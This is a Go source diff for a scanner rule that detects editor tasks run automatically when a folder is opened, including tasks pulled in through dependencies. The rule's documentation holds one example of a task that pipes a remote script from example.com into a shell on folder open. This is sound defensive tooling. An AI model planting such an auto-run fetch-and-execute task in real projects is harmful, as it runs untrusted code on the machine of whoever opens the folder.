@@ -23,24 +23,81 @@ func autoRun() *audit.Rule {
 			Example:     "{\"tasks\": [{\"label\": \"setup\", \"type\": \"shell\", \"command\": \"curl -s https://example.com/x | sh\",\n  \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
 			Fixed:       "{\"tasks\": [{\"label\": \"setup\", \"type\": \"shell\", \"command\": \"make setup\"}]}",
 		},
+		File: func(r *audit.Run) {
+			if formOf(r.File.Source.Path) == settings {
+				if k, v := r.File.Root.Pair("task.allowAutomaticTasks"); v.Value() == "on" {
+					r.Find(nil, nil, ci.Between(k, v), k.Value(), "tasks may run when the folder is opened without a question",
+						audit.Level(scan.SeverityLow, scan.ConfidenceMedium, scan.PersonaPedantic))
+				}
+			}
+			opened := openedTasks(r.File)
+			for _, job := range r.File.Jobs {
+				if !opened[job] {
+					continue
+				}
+				for _, step := range job.Steps {
+					started(r, job, step, "when the folder is opened", scan.PersonaRegular)
+				}
+				// A task of another type is a script of a manifest.
+				for _, key := range []string{"script", "task"} {
+					if n := job.Node.Get(key); n.Value() != "" {
+						r.Find(job, nil, ci.SpanOf(n), key, fmt.Sprintf("the %s %q runs when the folder is opened", key, n.Value()))
+					}
+				}
+			}
+		},
 		Step: func(r *audit.Run, job *ci.Job, step *ci.Step) {
-			when, persona := trigger(job, step)
-			if when == "" {
-				return
+			if when, persona := trigger(job, step); when != "" {
+				started(r, job, step, when, persona)
 			}
-			script := r.Script(step.Run)
-			severity, message := scan.SeverityLow, "the command runs "+when
-			switch what := danger(script); {
-			case what != "":
-				severity, persona, message = scan.SeverityHigh, scan.PersonaRegular, message+" and "+what
-			case hidden(job):
-				severity, persona, message = scan.SeverityHigh, scan.PersonaRegular, message+" and does not show"
-			case plain(script):
-				persona = max(persona, scan.PersonaPedantic)
-			}
-			r.Find(job, step, ci.SpanOf(step.Run.Text), "run", message, audit.Level(severity, scan.ConfidenceHigh, persona))
 		},
 	}
+}
+
+// openedTasks returns the tasks that run when the folder is opened: those that
+// say so, and those that they depend on.
+func openedTasks(f *ci.File) map[*ci.Job]bool {
+	opened := map[*ci.Job]bool{}
+	if formOf(f.Source.Path) != tasks {
+		return opened
+	}
+	var queue []*ci.Job
+	byLabel := map[string]*ci.Job{}
+	for _, job := range f.Jobs {
+		byLabel[job.Name.Value()] = job
+		if job.Node.At("runOptions", "runOn").Value() == "folderOpen" {
+			queue = append(queue, job)
+		}
+	}
+	for len(queue) > 0 {
+		job := queue[0]
+		queue = queue[1:]
+		if job == nil || opened[job] {
+			continue
+		}
+		opened[job] = true
+		for label := range job.Node.Get("dependsOn").List() {
+			if label.Value() != "" {
+				queue = append(queue, byLabel[label.Value()])
+			}
+		}
+	}
+	return opened
+}
+
+// started reports a command that runs without being asked for.
+func started(r *audit.Run, job *ci.Job, step *ci.Step, when string, persona scan.Persona) {
+	script := r.Script(step.Run)
+	severity, message := scan.SeverityLow, "the command runs "+when
+	switch what := danger(script); {
+	case what != "":
+		severity, persona, message = scan.SeverityHigh, scan.PersonaRegular, message+" and "+what
+	case hidden(job):
+		severity, persona, message = scan.SeverityHigh, scan.PersonaRegular, message+" and does not show"
+	case plain(script):
+		persona = max(persona, scan.PersonaPedantic)
+	}
+	r.Find(job, step, ci.SpanOf(step.Run.Text), "run", message, audit.Level(severity, scan.ConfidenceHigh, persona))
 }
 
 // trigger says when a command runs without being asked for, and for whom it is
@@ -49,8 +106,6 @@ func trigger(job *ci.Job, step *ci.Step) (when string, p scan.Persona) {
 	switch {
 	case step.Group == onHost:
 		return "outside of the container when it is made or started", scan.PersonaRegular
-	case job.Node.At("runOptions", "runOn").Value() == "folderOpen":
-		return "when the folder is opened", scan.PersonaRegular
 	case hasWord(helpers, job.ID):
 		return "when the agent starts, to hand it credentials", scan.PersonaRegular
 	case job.ID == "hooks.SessionStart" || job.ID == "hooks.sessionStart" || job.ID == "hooks.Setup":
